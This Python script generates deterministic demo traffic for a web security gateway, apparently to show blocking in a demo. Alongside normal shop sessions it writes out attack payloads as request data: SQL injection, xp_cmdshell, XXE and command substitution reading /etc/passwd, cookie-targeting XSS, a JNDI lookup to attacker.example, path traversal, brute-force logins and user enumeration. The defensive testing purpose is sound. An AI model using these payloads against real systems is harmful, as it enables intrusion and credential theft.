#!/usr/bin/env python3
"""Generates the demo traffic of `make demo` (examples/demo/*.jsonl), deterministically.

Capture records (DESIGN §2) that `palisade replay --through` sends as real HTTP requests through
the demo gateway; `client_ip` becomes X-Forwarded-For, so each simulated client has its own address.

  traffic.jsonl  normal clients mixed with: nested-payload attacks (203.0.113.66, 203.0.113.99),
                 a brute-force run (198.51.100.23), an enumeration run (198.51.100.77)
  after.jsonl    the same clients again, with ordinary requests only: blocked clients get 403s,
                 the others 200s
Run: python3 scripts/gen-demo-traffic.py   (rewrites both files)
"""
import base64
import json
import os
import random
import urllib.parse

HOST = "shop.example.com"
PASSWORD = "correct horse battery staple"
NORMAL = ["192.0.2.%d" % n for n in range(11, 19)]
INJECTOR, SPRAYER = "203.0.113.66", "203.0.113.99"
BRUTE, ENUM = "198.51.100.23", "198.51.100.77"
UA = ["Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", "Mozilla/5.0 (Macintosh) Safari/605.1.15",
      "shop-ios/4.2 CFNetwork", "okhttp/4.12.0"]


def rec(ip, method, path, body=None, ctype=None, ua=None, extra=None):
    headers = [["user-agent", ua or UA[sum(ip.encode()) % len(UA)]], ["accept", "application/json"]]
    if ctype:
        headers.append(["content-type", ctype])
    for h in extra or []:
        headers.append(h)
    r = {"client_ip": ip, "method": method, "host": HOST, "path": path, "headers": headers}
    if body is not None:
        r["body"] = body if isinstance(body, str) else json.dumps(body)
    return r


def q(text):
    return urllib.parse.quote(text, safe="")


def b64(value):
    return base64.b64encode(value.encode()).decode()


def normal_session(ip, rnd, n):
    out = [rec(ip, "POST", "/api/login", {"username": "user" + ip.split(".")[-1], "password": PASSWORD},
               "application/json")]
    for _ in range(n):
        pick = rnd.random()
        if pick < 0.25:
            out.append(rec(ip, "GET", "/api/users/%d" % rnd.randint(1, 5)))
        elif pick < 0.45:
            out.append(rec(ip, "GET", "/api/orders"))
        elif pick < 0.6:
            out.append(rec(ip, "POST", "/api/orders", {"sku": rnd.choice(["A-1", "B-2", "C-3"]),
                                                       "qty": rnd.randint(1, 4), "note": "leave at the door"},
                           "application/json"))
        elif pick < 0.75:
            term = rnd.choice(["running shoes", "rain jacket", "socks", "water bottle", "tent"])
            out.append(rec(ip, "GET", "/api/search?q=" + q(term) + "&page=%d" % rnd.randint(1, 3)))
        elif pick < 0.85:
            out.append(rec(ip, "POST", "/api/graphql",
                           {"query": "query Orders($first: Int) { orders(first: $first) { id total } }",
                            "variables": {"first": rnd.randint(5, 20)}}, "application/json"))
        else:
            out.append(rec(ip, "POST", "/api/profile", {"name": "Customer " + ip.split(".")[-1],
                                                        "bio": "I like hiking & coffee.",
                                                        "settings": b64(json.dumps({"theme": "dark", "lang": "en"}))},
                           "application/json"))
    return out


def injector(ip):
    inner = json.dumps({"filter": {"q": "1' OR '1'='1' UNION SELECT username, password FROM users--"}})
    xxe = ('<?xml version="1.0"?><!DOCTYPE order [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
           '<order><note>&xxe;</note></order>')
    return [
        rec(ip, "GET", "/api/search?q=" + q("1' UNION SELECT username,password FROM users--")),
        # JSON in Base64 in JSON
        rec(ip, "POST", "/api/orders", {"sku": "A-1", "qty": 1, "meta": b64(inner)}, "application/json"),
        # XML with an external entity
        rec(ip, "POST", "/api/import", xxe, "application/xml"),
        # GraphQL with an injection in an argument
        rec(ip, "POST", "/api/graphql",
            {"query": "{ user(id: \"1; DROP TABLE users--\") { name email } }"}, "application/json"),
        rec(ip, "GET", "/api/search?q=" + q("'; EXEC xp_cmdshell('whoami')--")),
        rec(ip, "POST", "/api/profile", "name=" + q("$(cat /etc/passwd)") + "&bio=hi",
            "application/x-www-form-urlencoded"),
    ]


def sprayer(ip):
    return [
        rec(ip, "GET", "/api/search?q=" + q("<script>alert(document.cookie)</script>")),
        rec(ip, "GET", "/api/orders", ua="${jndi:ldap://attacker.example/a}"),
        rec(ip, "POST", "/api/profile", {"name": "x", "bio": b64("<img src=x onerror=alert(1)>")},
            "application/json"),
        rec(ip, "POST", "/api/graphql",
            {"query": "query { __schema { types { name fields { name } } } }"}, "application/json"),
        rec(ip, "GET", "/api/search?q=" + q("{{7*7}}${7*7}<%= 7*7 %>")),
        rec(ip, "GET", "/api/search?q=" + q("../../../../etc/passwd")),
    ]


def main():
    rnd = random.Random(20261121)
    streams = [normal_session(ip, rnd, 45) for ip in NORMAL]
    streams.append(injector(INJECTOR))
    streams.append(sprayer(SPRAYER))
    streams.append([rec(BRUTE, "POST", "/api/login",
                        {"username": "admin", "password": "guess-%03d" % i}, "application/json",
                        ua="python-requests/2.31") for i in range(40)])
    streams.append([rec(ENUM, "GET", "/api/users/%d" % i, ua="curl/8.5.0") for i in range(1, 121)])
    # interleave: each step takes the next record of a random non-empty stream
    traffic = []
    while any(streams):
        s = rnd.choice([s for s in streams if s])
        traffic.append(s.pop(0))
    after = []
    for ip in NORMAL + [INJECTOR, SPRAYER, BRUTE, ENUM]:
        after += [rec(ip, "GET", "/api/orders"), rec(ip, "GET", "/api/users/2"),
                  rec(ip, "GET", "/api/search?q=" + q("socks"))]
    here = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "examples", "demo")
    for name, records in (("traffic.jsonl", traffic), ("after.jsonl", after)):
        with open(os.path.join(here, name), "w") as f:
            for r in records:
                f.write(json.dumps(r, separators=(",", ":")) + "\n")
        print("%s: %d records" % (name, len(records)))


if __name__ == "__main__":
    main()
